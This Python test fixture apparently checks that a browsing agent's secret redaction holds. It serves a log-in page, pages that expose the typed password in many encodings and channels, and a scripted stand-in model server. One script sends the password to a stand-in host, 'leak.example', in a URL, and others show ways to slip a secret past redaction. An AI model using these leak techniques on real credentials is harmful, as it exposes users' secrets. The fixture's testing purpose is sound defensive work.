"""A site that tells the password it was given wherever it can, and a model's server that plays."""

import asyncio
import base64
import json
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from html import escape
from urllib.parse import parse_qs, quote

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, JSONResponse, RedirectResponse, Response
from starlette.routing import Route

from vigorl.tasks.server import LocalServer

LOG_IN = """<!doctype html><title>Log in</title><body style="margin:0">
<form method=post action=/login><input type=password name=pw autofocus
style="position:absolute;left:10px;top:10px;width:300px;height:30px"></form>"""


def _page(body: str, title: str = "page") -> str:
    return f"<!doctype html><meta charset=utf-8><title>{title}</title><body>{body}"


def _script(script: str) -> Callable[[str], str]:
    """A page whose script knows the value as `v`."""
    return lambda value: _page(f"<script>const v={json.dumps(value)};{script}</script>")


LEAKS: dict[str, Callable[[str], str]] = {
    "text": lambda value: _page(f"<h1>Your password is {escape(value)}</h1>"),
    "text in pieces": lambda value: _page(
        f"<h1>{escape(value[:6])}<b>{escape(value[6:])}</b></h1>"
    ),
    "title": lambda value: _page("", escape(value)),
    "title in base64": lambda value: _page("", base64.b64encode(value.encode()).decode()),
    "title in percent": lambda value: _page("", quote(value, safe="")),
    "title in hex": lambda value: _page("", value.encode().hex()),
    "field": lambda value: _page(f"<input size=60 value='{escape(value)}'>"),
    "placeholder": lambda value: _page(f"<input size=60 placeholder='{escape(value)}'>"),
    "option": lambda value: _page(f"<select><option>{escape(value)}</select>"),
    "area": lambda value: _page(f"<textarea cols=60>{escape(value)}</textarea>"),
    "button": lambda value: _page(f"<button>{escape(value)}</button>"),
    "generated": lambda value: _page(f"<style>h1::before{{content:'{value}'}}</style><h1></h1>"),
    "shadow": _script(
        "let d=document.createElement('div');d.attachShadow({mode:'closed'}).innerHTML='<h1>'+v;"
        "document.body.append(d)"
    ),
    "frame": lambda value: _page(f"<iframe width=600 srcdoc='<h1>{escape(value)}</h1>'></iframe>"),
    "frame's address": lambda value: _page(f"<iframe src='/text?{quote(value)}'></iframe>"),
    "address": _script("history.replaceState(0,'','?pw='+encodeURIComponent(v))"),
    "fragment": _script("location.hash=btoa(v)"),
    "alert": _script("setTimeout(()=>alert('It is '+v),300)"),
    "confirm": _script("setTimeout(()=>confirm(v),300)"),
    "prompt": _script("setTimeout(()=>prompt('yours?',v),300)"),
    "console": _script("console.error(v);setTimeout(()=>{throw new Error(v)})"),
    "name of a download": _script(
        "setTimeout(()=>{let a=document.createElement('a');a.href='data:application/zip,x';"
        "a.download=v+'.zip';a.click()},300)"
    ),
    "title of a tab": _script("open('/title')"),
    "a host that is not allowed": _script(
        "setTimeout(()=>location='http://leak.example/?pw='+encodeURIComponent(v),200)"
    ),
    "a server that is not there": _script(
        "setTimeout(()=>location='http://127.0.0.1:9/'+encodeURIComponent(v),200)"
    ),
    "later": _script("setTimeout(()=>document.body.append(v),700)"),
}
"""Ways that are promised to leak nothing, by name."""

PICTURES: dict[str, Callable[[str], str]] = {
    "canvas": _script(
        "let c=document.createElement('canvas');c.width=900;c.height=90;let x=c.getContext('2d');"
        "x.font='40px sans-serif';x.fillText(v,5,50);document.body.append(c)"
    ),
    "picture": lambda value: _page(
        '<img src="data:image/svg+xml,'
        + quote(
            "<svg xmlns='http://www.w3.org/2000/svg' width='900' height='90'><text y='50' "
            f"font-size='40'>{value}</text></svg>"
        )
        + '">'
    ),
    "backwards": lambda value: _page(f"<h1>{escape(value[::-1])}</h1>"),
}
"""Ways that nothing defends against: the site draws it, or changes it."""


@dataclass
class LeakySite:
    """The site and the model's server in one; what it was asked is kept."""

    leaks: dict[str, Callable[[str], str]]
    secret_name: str
    value: str = ""
    """What was typed into its log-in."""
    requests: list[bytes] = field(default_factory=list)
    """Whatever came to the model's server."""
    on_turn: Callable[[], None] = lambda: None
    deeds: list[str] = field(default_factory=list)
    origin: str = ""

    @asynccontextmanager
    async def serving(self) -> AsyncIterator["LeakySite"]:
        """Serve as long as the block lasts."""
        routes = [
            Route("/", lambda request: HTMLResponse(LOG_IN)),
            Route("/login", self._log_in, methods=["POST"]),
            Route("/leak/{number:int}", self._leak),
            Route("/title", lambda request: HTMLResponse(_page("", escape(self.value)))),
            Route("/text", lambda request: HTMLResponse(_page(escape(self.value)))),
            Route("/realm", self._realm),
            Route("/v1/models", self._models),
            Route("/v1/chat/completions", self._chat, methods=["POST"]),
        ]
        async with LocalServer(Starlette(routes=routes)) as server:
            self.origin = server.origin
            self.deeds = self._script()
            yield self

    def _script(self) -> list[str]:
        said = f'type (100, 25) "<secret:{self.secret_name}>" enter'
        deeds = [said]
        for number, name in enumerate(self.leaks):
            deeds.append(f'goto "{self.origin}/leak/{number}"')
            if name in ("alert", "confirm", "prompt"):
                deeds += ["wait 0.5", "dismiss"]
            elif name in ("name of a download", "later") or name.startswith("a "):
                deeds.append("wait 1")
        deeds += [f'goto "{self.origin}/realm"', "dismiss"]
        return [*deeds, f'done "it was <secret:{self.secret_name}>"']

    async def _log_in(self, request: Request) -> Response:
        self.value = parse_qs((await request.body()).decode())["pw"][0]
        return RedirectResponse(f"/text?pw={quote(self.value)}", 303)

    async def _leak(self, request: Request) -> Response:
        make = list(self.leaks.values())[request.path_params["number"]]
        return HTMLResponse(make(self.value), headers={"X-Echo": quote(self.value)})

    async def _realm(self, request: Request) -> Response:
        header = {"WWW-Authenticate": f'Basic realm="{self.value}"'}
        return Response("who?", 401, header)

    async def _models(self, request: Request) -> Response:
        self.requests.append(json.dumps(dict(request.headers)).encode())
        return JSONResponse({"data": [{"id": "stand-in", "owned_by": "us"}]})

    async def _chat(self, request: Request) -> Response:
        body = await request.body()
        self.requests.append(body)
        await asyncio.to_thread(self.on_turn)
        turn = sum(message["role"] == "assistant" for message in json.loads(body)["messages"])
        turn = max(turn, self._turns_told(body))
        deed = self.deeds[min(turn, len(self.deeds) - 1)]
        text = f"<think> now </think>\n<answer> {deed} </answer>"
        choice = {"message": {"role": "assistant", "content": text}, "finish_reason": "stop"}
        usage = {"prompt_tokens": 9, "completion_tokens": 9}
        return JSONResponse({"choices": [choice], "usage": usage})

    def _turns_told(self, body: bytes) -> int:
        """How many turns have been played: each has one request."""
        return len(self.requests) - 2
